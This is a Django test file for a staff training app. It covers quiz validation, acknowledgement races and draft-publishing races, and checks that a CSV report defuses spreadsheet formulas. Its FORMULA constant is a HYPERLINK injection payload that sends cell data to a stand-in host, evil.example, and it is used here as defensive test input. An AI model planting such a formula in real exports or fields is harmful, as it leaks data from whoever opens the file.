"""What the review found: an answer that looks like a digit, formulas in the report's CSV, and a
version published (or a draft discarded) in the instant someone else acts on it."""

import csv
import io

from django.urls import reverse

from audit.models import AuditEvent
from governance.roles import Role
from tests.asked_here import asked
from tests.factories import make_user
from training import services
from training.models import Acknowledgement, PolicyDocument, QuizAttempt, QuizQuestion

FORMULA = '=HYPERLINK("http://evil.example/?x="&A2,"click")'


def test_a_quiz_answer_that_is_a_digit_but_no_number_counts_as_not_given(client, demo):
    client.force_login(demo.alice)
    first, *others = QuizQuestion.objects.filter(category_number=1, is_active=True)
    # "²".isdigit() is true, and int("²") raises
    answers = {str(q.public_id): str(q.answer) for q in others} | {str(first.public_id): "²"}
    response = client.post(reverse("training:quiz", args=[1]), answers)
    assert response.status_code == 200
    attempt = QuizAttempt.objects.get(user=demo.alice)
    assert attempt.answers[str(first.public_id)] is None


def test_a_quiz_sent_with_no_answer_is_not_taken(client, demo):
    """It was stored and audited as a failed attempt, 0 right."""
    client.force_login(demo.alice)
    question = QuizQuestion.objects.filter(category_number=1, is_active=True).first()
    for sent in ({}, {str(question.public_id): "²"}):
        response = client.post(reverse("training:quiz", args=[1]), sent)
        assert "Choose an answer to each question, then send them." in response.text
    assert not QuizAttempt.objects.exists()
    assert not AuditEvent.objects.filter(action=AuditEvent.Action.TRAINING_QUIZ_TAKEN).exists()


def test_the_report_csv_defuses_formulas(client, demo, publish):
    publish()
    make_user("-mallory@example.com", Role.STAFF, full_name=FORMULA)
    client.force_login(demo.aaron)
    response = client.get(asked(client, reverse("training:report_csv")))
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    mallory = next(row for row in rows if row["name"].endswith('"click")'))
    assert (mallory["email"], mallory["name"]) == ("'-mallory@example.com", "'" + FORMULA)
    by_email = {row["email"]: row for row in rows}
    assert by_email["alice@example.com"]["status"] == "not acknowledged"  # the rest as it was


def test_a_version_published_while_acknowledging_asks_to_read_it(
    client, demo, publish, monkeypatch
):
    publish()
    client.force_login(demo.alice)
    real = services.acknowledgement_status

    def status_then_publish(user, version=None):
        status = real(user, version)
        publish("Newer text", "Newer")  # another admin publishes in the same instant
        return status

    monkeypatch.setattr(services, "acknowledgement_status", status_then_publish)
    response = client.post(reverse("training:acknowledge"), {"version": 1, "confirm": "on"})
    assert response.status_code == 302
    assert response["Location"] == reverse("training:acknowledge")
    assert not Acknowledgement.objects.exists()
    assert not AuditEvent.objects.filter(action=AuditEvent.Action.TRAINING_ACKNOWLEDGED).exists()
    monkeypatch.undo()
    page = client.get(response["Location"]).content.decode()
    assert "A newer version was published meanwhile: read it first." in page


def test_a_draft_published_while_discarding_it_stays_published(client, demo, monkeypatch):
    draft = services.save_draft(actor=demo.paula, title="Policy", body="Rules.", change_note="")
    client.force_login(demo.paula)
    real = services.discard_draft

    def publish_then_discard(*, actor, document, reviewed):
        services.publish(actor=demo.paula, document=document)  # in the same instant
        return real(actor=actor, document=document, reviewed=reviewed)

    monkeypatch.setattr(services, "discard_draft", publish_then_discard)
    response = client.post(
        reverse("training:policy_discard"), {"draft_hash": draft.content_hash}, follow=True
    )
    assert response.status_code == 200
    assert "The draft was published or discarded meanwhile." in response.content.decode()
    draft.refresh_from_db()
    assert draft.status == PolicyDocument.Status.PUBLISHED
